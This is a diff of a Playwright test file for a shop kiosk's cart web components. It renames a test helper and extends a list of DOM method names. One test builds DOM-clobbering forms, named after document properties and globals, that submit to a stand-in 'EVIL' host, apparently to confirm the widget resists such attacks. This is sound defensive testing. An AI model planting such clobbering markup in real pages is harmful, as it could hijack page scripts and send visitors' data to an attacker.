@@ -14,7 +14,7 @@ interface Carts {
 }
 
 const quantities = async (world: World) =>
-  (await world.handle<Carts>('/carts')).carts.flatMap(({ cart }) => cart.lineItems.map(({ quantity }) => quantity));
+  (await world.admin<Carts>('/carts')).carts.flatMap(({ cart }) => cart.lineItems.map(({ quantity }) => quantity));
 
 const KNIFE = '<kiosk-add-to-cart product="bread-knife"></kiosk-add-to-cart>';
 const DRAWER = '<kiosk-cart-drawer></kiosk-cart-drawer>';
@@ -148,7 +148,7 @@ test.describe('elements that bear the names of what the code reads', () => {
       'visibilityState',
       'activeElement',
     ];
-    const methods = ['querySelector', 'getElementById', 'addEventListener', 'dispatchEvent'];
+    const methods = ['querySelector', 'querySelectorAll', 'getElementById', 'addEventListener', 'dispatchEvent'];
     const names = [...properties, 'documentElement', ...methods];
     const globals = ['kiosk', 'dataLayer', 'scheduler', 'memoryStorage', 'addEventListener', 'fetch', 'trustedTypes'];
     const body = `${names.map(name => `<form name="${name}" action="${EVIL}/sent"><input name="push"></form>`).join('')}
@@ -518,7 +518,7 @@ test('two shops on one page keep two visitors and two carts', async ({ page, wor
   await buttons.first().click();
   await buttons.last().click();
   await expect.poll(() => quantities(world)).toEqual([1, 1]);
-  const { carts } = await world.handle<Carts>('/carts');
+  const { carts } = await world.admin<Carts>('/carts');
   expect(carts.map(({ clientId }) => clientId).sort()).toEqual(['demo-client', 'other-client']);
   expect(new Set(carts.map(({ visitorId }) => visitorId)).size).toBe(2);
   expect(
@@ -651,7 +651,7 @@ async function catalogue(world: World, clientId = 'demo-client'): Promise<readon
     { query: { paging: { limit: 100 } } },
     access_token,
   );
-  await world.handle('/reset', {});
+  await world.admin('/reset', {});
   const plain = products.filter(({ productOptions, stock }) => !productOptions.length && stock.inStock);
   return [...plain, ...products.filter(product => !plain.includes(product))].map(({ slug }) => slug);
 }
